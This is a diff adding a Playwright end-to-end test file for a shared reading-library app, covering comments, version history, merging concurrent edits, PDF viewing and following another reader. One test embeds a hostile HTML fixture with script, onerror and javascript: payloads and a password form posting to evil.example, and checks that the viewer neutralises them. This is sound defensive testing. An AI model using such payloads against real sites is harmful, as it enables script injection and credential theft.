@@ -1,0 +1,249 @@
+import { readFile } from 'node:fs/promises'
+import AxeBuilder from '@axe-core/playwright'
+import type { Page } from '@playwright/test'
+import { expect, fixture, signIn, test } from './fixtures.ts'
+
+async function clean(page: Page, what: string): Promise<void> {
+  const { violations } = await new AxeBuilder({ page }).analyze()
+  expect
+    .soft(
+      violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`),
+      what,
+    )
+    .toEqual([])
+}
+
+/** Selects words in what is drawn, as dragging over them does. */
+async function select(page: Page, words: string, frame?: string): Promise<void> {
+  await page.evaluate(
+    ([wanted, selector]) => {
+      const host = selector ? document.querySelector<HTMLIFrameElement>(selector)?.contentDocument : document
+      if (!host) throw new Error('no frame')
+      const walker = host.createTreeWalker(host.body, NodeFilter.SHOW_TEXT)
+      while (walker.nextNode()) {
+        const text = walker.currentNode as Text
+        const at = text.data.indexOf(wanted ?? '')
+        if (at === -1 || !text.parentElement?.closest('article, .pdf-text, main')) continue
+        host.getSelection()?.setBaseAndExtent(text, at, text, at + (wanted ?? '').length)
+        return
+      }
+      throw new Error(`not drawn: ${wanted}`)
+    },
+    [words, frame],
+  )
+}
+
+test('selected words are highlighted and talked about, in a thread that is resolved', async ({
+  browser,
+  page,
+  signedIn,
+  another,
+  library,
+}) => {
+  test.slow()
+  const { data: note } = await signedIn.client
+    .rpc('add_note', { library, title: 'Lamps', body: 'A steady lamp needs a steady keeper.\n\nThe sea is dark.' })
+    .throwOnError()
+  const { data: invitation } = await signedIn.client
+    .rpc('invite_member', { library, email: another.email, role: 'reader' })
+    .throwOnError()
+  await another.client.rpc('accept_invitation', { invitation: (invitation as { id: string }).id }).throwOnError()
+  await page.goto(`/l/${library}/d/${note.id}`)
+  await page.getByText('The sea is dark.').waitFor()
+  await select(page, 'The sea is dark.')
+  await page.getByRole('toolbar', { name: 'The selected words' }).getByRole('button', { name: 'Highlight' }).click()
+  await expect(page.getByText('Highlighted')).toBeVisible()
+
+  await select(page, 'steady keeper')
+  await page.getByRole('toolbar', { name: 'The selected words' }).getByRole('button', { name: 'Comment' }).click()
+  const field = page.getByLabel('Comment on the passage')
+  await field.fill('Who is meant, @Mar')
+  await page.getByRole('option', { name: 'Mary Somerville' }).waitFor()
+  await page.keyboard.press('Enter')
+  await expect(field).toHaveValue('Who is meant, @Mary Somerville ')
+  await page.keyboard.press('Control+Enter')
+  const comments = page.getByRole('region', { name: 'Comments' })
+  await expect(comments.locator('strong', { hasText: '@Mary Somerville' })).toBeVisible()
+  const { data: mentions } = await another.client.from('mentions').select('document_id').throwOnError()
+  expect(mentions).toEqual([{ document_id: note.id }])
+
+  // The one who is called answers; a reader may.
+  const context = await browser.newContext()
+  const tab = await context.newPage()
+  await signIn(tab, another)
+  await tab.goto(`/l/${library}/d/${note.id}`)
+  await tab.getByRole('button', { name: 'Answer' }).last().click()
+  await tab.getByLabel('Your answer').fill('The one who never sleeps.')
+  await tab.getByRole('button', { name: 'Answer', exact: true }).last().click()
+  await expect(comments.getByText('The one who never sleeps.')).toBeVisible()
+  await expect(tab.getByRole('button', { name: 'Edit' })).toHaveCount(0)
+  await context.close()
+
+  await comments.getByRole('button', { name: 'steady keeper' }).click()
+  await expect(page).toHaveURL(/comment=/)
+  await clean(page, 'comments')
+  await comments.getByRole('button', { name: 'Resolve' }).click()
+  await page.goto(`/l/${library}/d/${note.id}`)
+  await expect(comments.getByRole('button', { name: '1 resolved' })).toBeVisible()
+  await expect(comments.getByText('The one who never sleeps.')).toBeHidden()
+})
+
+test('a note is edited in place, kept as it is typed, saved as a version, compared and restored', async ({
+  page,
+  signedIn,
+  library,
+}) => {
+  test.slow()
+  const { data: note } = await signedIn.client
+    .rpc('add_note', { library, title: 'Lamps', body: 'The lamp burns.' })
+    .throwOnError()
+  await page.goto(`/l/${library}/d/${note.id}`)
+  await page.getByRole('button', { name: 'Edit' }).click()
+  const editor = page.getByRole('textbox', { name: 'Text of Lamps' })
+  await editor.press('Control+End')
+  await editor.pressSequentially(' Brightly.')
+  await expect(page.getByText('Kept as your draft')).toBeVisible()
+  // Lost in the middle, and there again.
+  await page.reload()
+  await page.getByRole('button', { name: 'Edit' }).click()
+  await expect(editor).toContainText('The lamp burns. Brightly.')
+  await expect(page.getByText('You left this unfinished')).toBeVisible()
+  await clean(page, 'editor')
+  await page.getByRole('button', { name: 'Done' }).click()
+  await expect(page.locator('.prose')).toHaveText('The lamp burns. Brightly.')
+
+  await page.getByRole('button', { name: '2 versions' }).click()
+  const dialog = page.getByRole('dialog', { name: 'Versions' })
+  await dialog.getByRole('button', { name: /^Version 1/ }).click()
+  await expect(dialog.getByRole('region', { name: 'Version 1 and the latest' })).toContainText('Brightly')
+  await clean(page, 'versions')
+  await dialog.getByRole('button', { name: 'Restore version 1' }).click()
+  await expect(page.locator('.prose')).toHaveText('The lamp burns.')
+  await expect(page.getByRole('button', { name: '3 versions' })).toBeVisible()
+})
+
+test('two people who edit at once: different places are put together, the same place is asked about', async ({
+  page,
+  signedIn,
+  library,
+}) => {
+  test.slow()
+  const body = 'The lamp burns.\n\nThe sea is dark.\n\nThe end.'
+  const { data: note } = await signedIn.client.rpc('add_note', { library, title: 'Lamps', body }).throwOnError()
+  await page.goto(`/l/${library}/d/${note.id}`)
+  await page.getByRole('button', { name: 'Edit' }).click()
+  const editor = page.getByRole('textbox', { name: 'Text of Lamps' })
+  await editor.press('Control+End')
+  await editor.pressSequentially(' Really.')
+  const saveElsewhere = async (text: string) => {
+    const { data } = await signedIn.client
+      .from('documents')
+      .select('current_version_id')
+      .eq('id', note.id)
+      .single()
+      .throwOnError()
+    await signedIn.client
+      .rpc('save_note', { document: note.id, body: text, based_on: data.current_version_id ?? '' })
+      .throwOnError()
+  }
+  await saveElsewhere(body.replace('The lamp burns', 'The lamp shines'))
+  await editor.press('Control+s')
+  await expect(page.getByText('What others have written is in your text now')).toBeVisible()
+  await expect(editor).toContainText('The lamp shines.')
+  await expect(editor).toContainText('The end. Really.')
+
+  await saveElsewhere('The lamp shines.\n\nThe sea is dark.\n\nThe end. Really. Not yet.')
+  await editor.press('Control+End')
+  await editor.pressSequentially(' Truly.')
+  await editor.press('Control+s')
+  await expect(page.getByRole('heading', { name: 'Somebody else has changed the same place' })).toBeVisible()
+  await page.getByRole('button', { name: 'Save mine on top' }).click()
+  await expect(page.getByText('Saved', { exact: true })).toBeVisible()
+  await page.getByRole('button', { name: 'Done' }).click()
+  await expect(page.locator('.prose')).toContainText('The end. Really. Truly.')
+  const { count } = await signedIn.client
+    .from('versions')
+    .select('*', { count: 'exact', head: true })
+    .eq('document_id', note.id)
+    .throwOnError()
+  expect(count).toBe(5)
+})
+
+test('a PDF is searched, zoomed, walked through by thumbnails, and opens where one stopped', async ({
+  page,
+  library,
+}) => {
+  test.slow()
+  expect(library).toBeTruthy()
+  await page.getByLabel('Files to add').setInputFiles(fixture('reading-room.pdf'))
+  await page.getByRole('article', { name: 'Reading room' }).getByRole('link').first().click({ timeout: 60_000 })
+  await page.getByRole('button', { name: 'Find in this document' }).click()
+  await page.getByRole('searchbox', { name: 'Find in this document' }).fill('light')
+  await expect(page.getByText(/^1 of \d+$/)).toBeVisible({ timeout: 60_000 })
+  await page.keyboard.press('Enter')
+  await expect(page.getByText(/^2 of \d+$/)).toBeVisible()
+  await page.getByRole('searchbox', { name: 'Find in this document' }).fill('nowhere at all')
+  await expect(page.getByText('nothing', { exact: true })).toBeVisible({ timeout: 60_000 })
+  await page.keyboard.press('Escape')
+  await page.getByRole('button', { name: 'Larger' }).click()
+  await expect(page.getByRole('button', { name: /^Zoom 125 %/ })).toBeVisible()
+  await page.getByRole('button', { name: 'Thumbnails' }).click()
+  await page.getByRole('button', { name: 'Go to page 9' }).click()
+  await expect(page.getByLabel('Page', { exact: true })).toHaveValue('9')
+  await clean(page, 'pdf')
+  await page.waitForResponse((response) => response.url().includes('reading_positions') && response.ok())
+  await page.reload()
+  await expect(page.getByLabel('Page', { exact: true })).toHaveValue('9', { timeout: 30_000 })
+})
+
+test('a hostile page is shown as text in a frame that does nothing, and can be remarked on', async ({
+  page,
+  library,
+}) => {
+  test.slow()
+  expect(library).toBeTruthy()
+  const hostile = `<html><body><h1>Cards</h1>${'<p>The card is put back into the drawer by its keeper.</p>'.repeat(8)}
+    <img src="https://evil.example/pixel.png" onerror="top.stolen = 1"><script>top.stolen = 1</script>
+    <form action="https://evil.example/"><input name="password"></form><a href="javascript:top.stolen=1">x</a></body></html>`
+  const foreign: string[] = []
+  page.on('request', (request) => request.url().includes('evil.example') && foreign.push(request.url()))
+  await page
+    .getByLabel('Files to add')
+    .setInputFiles({ name: 'cards.html', mimeType: 'text/html', buffer: Buffer.from(hostile) })
+  const card = page.getByRole('article', { name: 'Cards' })
+  await expect(card.getByText(/Reading|Indexing|Waiting/)).toHaveCount(0, { timeout: 60_000 })
+  await card.getByRole('link').first().click()
+  const frame = page.frameLocator('iframe[title="Cards"]')
+  await expect(frame.getByText('The card is put back').first()).toBeVisible()
+  await expect(frame.locator('form, script, input, img[src]')).toHaveCount(0)
+  await select(page, 'put back into the drawer', 'iframe')
+  await page.getByRole('button', { name: 'Highlight' }).click()
+  await expect(page.getByText('Highlighted')).toBeVisible()
+  await clean(page, 'snapshot')
+  expect(foreign).toEqual([])
+  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false)
+})
+
+test('one follows another reader through a document', async ({ browser, page, signedIn, another, library }) => {
+  test.slow()
+  const { data: invitation } = await signedIn.client
+    .rpc('invite_member', { library, email: another.email, role: 'reader' })
+    .throwOnError()
+  await another.client.rpc('accept_invitation', { invitation: (invitation as { id: string }).id }).throwOnError()
+  const document = crypto.randomUUID()
+  const path = `${library}/${document}/${crypto.randomUUID()}/room.pdf`
+  await signedIn.client.storage
+    .from('documents')
+    .upload(path, await readFile(fixture('reading-room.pdf')), { contentType: 'application/pdf' })
+  await signedIn.client.rpc('add_file', { library, document, path, file_name: 'room.pdf' }).throwOnError()
+  await page.goto(`/l/${library}/d/${document}`)
+  const context = await browser.newContext()
+  const tab = await context.newPage()
+  await signIn(tab, another)
+  await tab.goto(`/l/${library}/d/${document}`)
+  await tab.getByRole('button', { name: 'Follow Ada Lovelace' }).click({ timeout: 30_000 })
+  await page.getByLabel('Page', { exact: true }).fill('7')
+  await page.keyboard.press('Enter')
+  await expect(tab.getByLabel('Page', { exact: true })).toHaveValue('7', { timeout: 30_000 })
+  await context.close()
+})
